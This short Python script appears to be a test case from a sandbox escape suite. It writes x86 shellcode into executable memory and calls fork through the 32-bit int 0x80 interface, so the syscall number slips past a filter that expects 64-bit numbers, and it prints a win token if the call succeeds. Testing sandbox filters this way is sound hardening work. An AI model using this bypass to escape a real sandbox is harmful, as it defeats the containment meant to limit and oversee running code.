"""Makes system calls the 32-bit way, whose numbers mean something else to a filter."""
# Gets: Your code ended the Python process

import ctypes
import mmap

from world import WON

# mov eax, 2 (fork); int 0x80; ret
code = b"\xb8\x02\x00\x00\x00\xcd\x80\xc3"
page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
page.write(code)
fork = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
pid = fork()
if pid == 0:
    __import__("os")._exit(0)
print(WON if pid > 0 else "refused")
